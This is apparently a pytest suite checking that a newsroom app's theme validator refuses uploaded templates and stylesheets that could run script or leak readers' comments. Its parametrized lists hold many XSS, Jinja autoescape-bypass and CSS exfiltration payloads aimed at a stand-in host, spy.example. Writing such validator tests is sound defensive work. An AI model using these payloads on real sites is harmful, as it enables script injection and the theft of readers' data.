"""A theme runs nothing, tells nobody elsewhere what readers wrote, and shows what they wrote as text alone."""

from typing import get_args

import pytest

from newsroom.errors import Rejected
from newsroom.rendering import render
from newsroom.rendering.content import Moderate, ReceiptPage, ResponsePage
from newsroom.rendering.site_context import SiteContext
from newsroom.uploads.parser import parse
from newsroom.uploads.theme import files
from tests.newsroom.sample_paper import text_of
from tests.newsroom.uploads.theme.test_theme import NOTICE, SITE, built_in, dressed, refusals

FRAMED = '{% extends "base.html" %}{% block main %}ATTACK{% endblock %}'
REMARKS = '{% extends "base.html" %}{% block main %}{% for comment in comments %}ATTACK{% endfor %}{% endblock %}'
HEAD = '{% extends "base.html" %}{% block head %}ATTACK{% endblock %}{% block main %}<p>{{ message }}</p>{% endblock %}'


def refused(name: str, text: str) -> str:
    found = " ".join(refusals(name, text))
    assert found, text
    return found


@pytest.mark.parametrize("name", sorted({f"{name}.html" for name in get_args(ResponsePage)}))
def test_pages_made_for_one_person_are_no_part_of_a_theme(name: str) -> None:
    assert name not in files.names()
    assert "always drawn with the built-in" in refused(name, FRAMED.replace("ATTACK", "<p>Hello.</p>"))


@pytest.mark.parametrize("part", ["base.html", "moderate.html", "comment-receipt.html", "unsubscribe.html"])
def test_pages_made_for_one_person_are_drawn_with_built_in_templates_whatever_the_theme_says(part: str) -> None:
    spying = '<meta name="edition" content="{{ edition }}"><img src="https://spy.example/{{ address }}">'
    site = dressed(**{part.removesuffix(".html"): spying})
    receipt = ReceiptPage(
        state="held", author="Wim", url="", text="Words.", at="2026-11-23T09:30:00+00:00", headline="Specimen",
        address="/a/", post_to="/api/comments/aa", editable_until=None, notice="", problems=[],
    )  # fmt: skip
    verdict = Moderate(
        action="approve", status="held", reason="", author="Wim", url=None, text="Words.",
        at="2026-11-23T09:30:00+00:00", headline="Specimen", address="/a/", post_to="/api/moderate?t=x", others=[],
        expired=False,
    )  # fmt: skip
    for name, context in (("comment-receipt", receipt), ("moderate", verdict)):
        page = render.render_response(name, context, site)  # type: ignore[arg-type]
        assert b"spy.example" not in page
        assert page == render.render_response(name, context, {**site, "theme": {}})  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "attack",
    [
        "<{{ 'script' }}>fetch('/')</{{ 'script' }}>",
        "<body/onload=fetch('/')>",
        "<p/onclick=x>",
        "<svg/onload=x>",
        "<a href='java&#115;cript:x()'>a</a>",
        "<a href='&#1;javascript:x()'>a</a>",
        "<a href='java\tscript:x()'>a</a>",
        "<a href='&#100;ata:text/html,x'>a</a>",
        "<a href=\"{{ 'vbscript' }}:x\">a</a>",
        "<img src='https://spy.example/?<p>\n{{ message }}</p>'>",
        "<a href='https://spy.example/?\n{{ message }}<p>'>a</a>",
        "<svg><foreignObject><p>a</p></foreignObject></svg>",
        "<svg><feImage href=/a></feImage></svg>",
        "<svg><animateMotion></animateMotion></svg>",
        "<svg><a xlink:href='java&#115;cript:x'>a</a></svg>",
        "<svg><use href='https://spy.example/a.svg#a'></use></svg>",
        "<svg><animate attributeName=href values=x /></svg>",
        "<svg><{{ 'script' }}>x</{{ 'script' }}></svg>",
        "<math><mi href=x>x</mi></math>",
        "<template><p>a</p></template>",
        "<noscript><img src=x></noscript>",
        "<{{ 'iframe' }} src=/></{{ 'iframe' }}>",
        "<{{ 'object' }} data=/></{{ 'object' }}>",
        "<portal src=/></portal>",
        "<form action=https://spy.example/><button>a</button></form>",
        "<form action=//spy.example/><button>a</button></form>",
        "<form action='\\\\spy.example/'><button>a</button></form>",
        "<form action='/\t/spy.example/'><button>a</button></form>",
        "<button/formaction=https://spy.example/>a</button>",
        "<a ping=https://spy.example/ href=/>a</a>",
        "<a referrerpolicy=unsafe-url href=/>a</a>",
        "<img referrerpolicy=unsafe-url src=/a.png>",
        "<table background=https://spy.example/a.png></table>",
        "<p/style=color:red>a</p>",
        "<{{ 'style' }}>p{}</{{ 'style' }}>",
        "<video src=https://spy.example/a.mp4></video>",
    ],
)  # fmt: skip
def test_what_a_theme_draws_is_judged_however_it_is_written(attack: str) -> None:
    refused("notice.html", FRAMED.replace("ATTACK", attack))


@pytest.mark.parametrize(
    "attack",
    [
        '<meta http-equiv=refresh content="0; url=https://spy.example/">',
        '<meta http-equiv="refresh" content="9">',
        "<META HTTP-EQUIV=Refresh CONTENT=0;url=/>",
        '<meta http-equiv="{{ \'ref\' }}resh" content="0; url=/">',
        '<meta http-equiv=content-security-policy content="default-src *">',
        "<meta name=referrer content=unsafe-url>",
        "<meta name=REFERRER content=always>",
        "<meta name='referrer' content=origin-when-cross-origin>",
        '<link title=">" rel=preconnect href=https://spy.example/>',
        '<link rel=preconnect href="&#104;ttps://spy.example/">',
        "<link rel=dns-prefetch href=/a>",
        "<link rel=preload as=image href=/a>",
        "<link rel=prefetch href=/a>",
        "<link rel=modulepreload href=/a>",
        "<link rel=prerender href=/a>",
        "<link rel='alternate prefetch' href=/a>",
        "<link rel=stylesheet href='&#104;ttps://spy.example/a.css'>",
        "<link rel=stylesheet href='/&#47;spy.example/a.css'>",
        "<link rel=icon href='//spy.example/a.png'>",
        "<link rel=manifest href='\\\\spy.example/a'>",
        "<{{ 'base' }} href=https://spy.example/>",
        "<meta charset=utf-16>",
        "<script src=/assets/other.js></script>",
        '<script type="application/ld+json" src=https://spy.example/></script>',
    ],
)
def test_the_head_of_a_page_leads_nowhere_and_asks_nobody(attack: str) -> None:
    refused("notice.html", HEAD.replace("ATTACK", attack))


@pytest.mark.parametrize(
    "attack",
    [
        '<img src="https://spy.example/{{ comment.author }}">',
        '<img src="https://spy.example/{{ comment.author[:1] }}.png">',
        '<img src="https://spy.example/{{ comment.author|first }}.png">',
        '<img src="https://spy.example/{{ comment.text|length }}.png">',
        '<img srcset="https://spy.example/{{ comment.text|upper|title }} 2x">',
        '<img src="{{ comment.url }}">',
        "<img src=https://spy.example/{{ comment.author }}>",
        '<a href="https://spy.example/?{{ comment.author }}">a</a>',
        '<a href="{{ comment.url }}{{ comment.author|first }}">a</a>',
        '<a href="//spy.example/{{ comment.text[:3] }}">a</a>',
        '<blockquote cite="https://spy.example/{{ comment.author }}">a</blockquote>',
        '{% if comment.author[:1] == "a" %}<img src="https://spy.example/a.png">{% endif %}',
        '<svg><image href="https://spy.example/{{ comment.author }}"></image></svg>',
    ],
)  # fmt: skip
def test_no_address_elsewhere_holds_what_a_reader_wrote(attack: str) -> None:
    refused("article.html", REMARKS.replace("ATTACK", attack))
    refused("comments.html", REMARKS.replace("ATTACK", attack))


@pytest.mark.parametrize(
    "attack",
    [
        "<p title={{ comment.author }}>a</p>",
        "<{{ comment.author }}>",
        "<p {{ comment.author }}>a</p>",
        "<p data-a={{ comment.text }}>a</p>",
        "{{ comment.author|safe }}",
        "{{ comment.author | safe }}",
        "{{ (comment.author)|safe }}",
        "{{ comment['author']|safe }}",
        "{{ comment.author|upper|safe }}",
        "{% autoescape false %}{{ comment.author }}{% endautoescape %}",
        '{% include "%}{#" ignore missing %}{{ comment.author|safe }}{% include "#}" ignore missing %}',
        '{% include "%}" ignore missing %}{% set a = 1 %}',
        "{{ '{#' }}{% autoescape false %}{{ comment.author }}{% endautoescape %}{{ '#}' }}",
        "{% include ['a.html'] %}",
        "{% include comment.author ignore missing %}",
        '{% include "notice" ~ ".html" %}',
        "{% import 'parts.html' as parts %}",
        "{% from 'parts.html' import byline, {} %}",
        "{% filter safe %}{{ comment.author }}{% endfilter %}",
        "{% set body = comment.author %}{{ body|safe }}",
        "{% with body = comment.author %}{{ body|safe }}{% endwith %}",
        "{% do comment %}",
        "{{ comment.author|replace('a', 'b') }}",
        "{{ comment.author %}{# #}}}",
        "{{ 'unclosed }} {{ comment.author|safe }}",
        "{{ comment.author",
        "{% if comment.author ",
        "{# never closed",
    ],
)
def test_what_readers_wrote_is_written_as_text_or_the_theme_is_refused(attack: str) -> None:
    refused("article.html", REMARKS.replace("ATTACK", attack))


def test_a_macro_that_is_handed_a_readers_name_writes_it_as_text() -> None:
    quoting = built_in("reply.html").replace(
        "{{ quoted(remark, remark.html, remark.url, their_tongue) }}",
        '{{ quoted(remark, remark.author, remark.url, "") }}',
    )
    assert quoting != built_in("reply.html")
    assert refusals("reply.html", quoting) == []
    drawn = list(files.sample_pages.rendered_samples(dressed(reply=quoting), files.sample_pages.ReaderTexts.of("anna")))
    assert any(b"&lt;canary&gt;anna" in page.body for page in drawn)
    assert not any(b"<canary" in page.body for page in drawn)


def test_a_page_is_judged_when_it_is_drawn_too_whatever_its_theme_hid_from_the_specimens() -> None:
    hidden = NOTICE.replace(
        "{{ message }}", "{{ message }}{% if paper.tagline == 'Now' %}<{{ 'script' }}>x</{{ 'script' }}>{% endif %}"
    )
    assert refusals("notice.html", hidden) == []
    site = {**dressed(notice=hidden), "tagline": "Now"}
    drawn = render.render_page(render.urls.parse_path("/404.html"), render.FixedContent(), SiteContext(site), 7)  # type: ignore[arg-type]
    assert "no <script>" in drawn.theme_error
    assert drawn.body.decode() == text_of("/404.html", render.FixedContent(), {**site, "theme": {}})  # type: ignore[typeddict-item]


@pytest.mark.parametrize(
    "kept",
    [
        '<img src="https://pictures.example/logo.png" alt="">',
        '<a href="https://elsewhere.example/">a</a>',
        '<a href="mailto:desk@paper.example">a</a>',
        '<svg viewBox="0 0 9 9"><path d="M0 0h9v9z"></path></svg>',
        '<form action="/search/"><input name="q"></form>',
        "<!-- our own look -->",
    ],
)
def test_what_a_theme_may_well_want_is_left_to_it(kept: str) -> None:
    assert refusals("notice.html", FRAMED.replace("ATTACK", kept)) == []


@pytest.mark.parametrize(
    "kept",
    [
        '<a href="{{ comment.url }}">{{ comment.author }}</a>',
        '<p title="{{ comment.author }}" id="c-{{ comment.id }}">{{ comment.text }}</p>',
        '<a href="/search/?q={{ comment.author }}">a</a>',
        "{{ comment.html }}",
        "{{ comment.html|safe }}",
    ],
)
def test_a_theme_may_show_what_readers_wrote_where_it_likes(kept: str) -> None:
    assert refusals("article.html", REMARKS.replace("ATTACK", kept)) == []


@pytest.mark.parametrize(
    "style",
    [
        'p {background: image-set("https://spy.example/x" 1x)}',
        'p {background: -webkit-image-set("https://spy.example/x" 1x)}',
        'p {background: IMAGE-SET("x.png" 1x)}',
        'p {background: src("https://spy.example/x")}',
        'p {background: image("x.png")}',
        'p {background: cross-fade("x.png", red)}',
        "p {background: element(#a)}",
        "p {background: \\75rl(https://spy.example/x)}",
        "p {background: u\\72 l('https://spy.example/x')}",
        "p {background: \\55\\52\\4c(x)}",
        "p {background: i\\6d age-set('x' 1x)}",
        "p {--a: url(x)}",
        "@media print {p {background: url(x)}}",
        "@supports (background: image-set('x' 1x)) {p {color: red}}",
        "@layer a {p {&:hover {background: url('x')}}}",
        "@\\69mport 'x.css';",
        "@IMPORT 'x.css';",
        "@namespace 'https://spy.example/';",
        "@font-face {font-family: a; src: local(a)}",
        "@font-face {font-family: a; src: url(x)}",
        "@document domain(example.com) {p {color: red}}",
        "@-moz-document url-prefix() {p {color: red}}",
        "@unheard-of {p {color: red}}",
        "p::after {content: 'https://spy.example/'}",
        "p {--a: '//spy.example/'}",
        'input[value^="r"] {color: red}',
        'input[ value ^= "r" i ] {color: red}',
        "input[\\76 alue='r'] {color: red}",
        "input[*|value$='r'] {color: red}",
        "form {& input[value*='r'] {color: red}}",
        "form:has(input[VALUE='r']) {color: red}",
        "form[action*='a'] {color: red}",
        "@scope (input[value='r']) {p {color: red}}",
        "a{" + "(" * 9_000,
        "p {z-index: " + "9" * 5_000 + "}",
        "a{" + "[" * 60 + "]" * 60 + "}",
    ],
)
def test_a_style_asks_for_nothing_and_tells_nothing(style: str) -> None:
    refused("style.css", style)


@pytest.mark.parametrize(
    "style",
    [
        "a[href^='http']::after {content: ' ↗'}",
        "@media (min-width: 40em) {p {width: calc(100% - (2 * var(--a)))}}",
        "main {display: grid; grid-template-columns: [value] 1fr [action] 2fr}",
        "p {background: linear-gradient(red, blue)}",
        "@keyframes a {from {color: red}}",
        "@supports (display: grid) {p {color: red}}",
        "input[type='email'] {color: red}",
        "li::before {content: 'Note: '; quotes: '«' '»'}",
        "/* url(x) @import 'x' */ p {color: red}",
    ],
)
def test_a_style_may_do_what_styles_do(style: str) -> None:
    assert refusals("style.css", style) == []


def test_a_refusal_names_the_line_and_the_remedy() -> None:
    with pytest.raises(Rejected) as refusal:
        parse("theme/style.css", b"p {color: red}\n\np {background: image-set('x' 1x)}", SITE)
    (problem,) = refusal.value.problems
    assert problem["line"] == 3
    assert "draw with colours and borders" in problem["message"]


@pytest.mark.parametrize(
    ("name", "text"), [("style.css", "@a " * 9_000), ("notice.html", "<p>{{ heading|safe }}\n" * 1_000)]
)
def test_a_file_that_is_wrong_all_over_is_told_no_more_than_anybody_reads(name: str, text: str) -> None:
    assert 0 < len(refusals(name, text)) <= 50
